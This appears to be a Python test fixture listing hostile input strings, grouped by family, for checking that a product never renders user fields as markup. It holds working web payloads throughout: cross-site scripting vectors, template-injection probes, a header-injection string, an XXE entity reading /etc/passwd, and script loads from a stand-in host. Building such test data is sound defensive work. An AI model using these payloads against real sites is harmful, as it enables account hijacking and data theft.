"""Texts that would run, load or break something if any field were ever taken for markup.

Written for this product, by family. Each that gets to run sets `window.hostile`, opens a dialog, or asks ELSEWHERE for
something; each that only breaks out of its place shows in the page's elements.
"""

ELSEWHERE = "elsewhere.example"
RUN = "window.hostile=1,alert(1)"

_TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src='//{ELSEWHERE}/x.swf'>",
    f"<base href='//{ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<form action='//{ELSEWHERE}/'><button>Go on</button></form>",
]
_HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src=x onerror="{RUN}"',
    f"<IMG/SRC=x/ONERROR={RUN}//",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<div style='animation:x' onanimationstart={RUN}>x</div>",
    f"<a href=# onmouseover={RUN}>hover</a>",
]
_ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    f"//{ELSEWHERE}/",
    f"/\\{ELSEWHERE}/",
]
_DRAWINGS = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math href='javascript:{RUN}'>x</math>",
]
_MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<select><iframe></select><img src=x onerror={RUN}>",
]
_TEMPLATES = [
    "{{constructor.constructor('" + RUN + "')()}}",
    "${" + RUN + "}",
    "{% raw %}<script>" + RUN + "</script>{% endraw %}",
    "{{7*7}}",
    "<%= " + RUN + " %>",
]
_MARKDOWN = [
    f"[press](javascript:{RUN})",
    f"[press](&#x6A;avascript:{RUN})",
    f"[press](data:text/html,<script>{RUN}</script>)",
    f"[press](<javascript:{RUN}>)",
    f'![x](x"onerror="{RUN})',
    f"![x](https://{ELSEWHERE}/x.png)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN} [a]",
    f"```html\n<script>{RUN}</script>\n```",
    f"[<img src=x onerror={RUN}>](https://{ELSEWHERE}/)",
    f"[x](https://{ELSEWHERE}/ \"title' onmouseover='{RUN}\")",
]
_BREAK_OUTS = [
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"}}</script><img src=x onerror={RUN}>',
    f'\\"}};{RUN}//',
    f"\u2028{RUN}\u2029",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "x\r\nSet-Cookie: hostile=1\r\n\r\n<script>" + RUN + "</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
]

HOSTILE_TEXTS = [
    *_TAGS,
    *_HANDLERS,
    *_ADDRESSES,
    *_DRAWINGS,
    *_MUTATIONS,
    *_TEMPLATES,
    *_MARKDOWN,
    *_BREAK_OUTS,
]
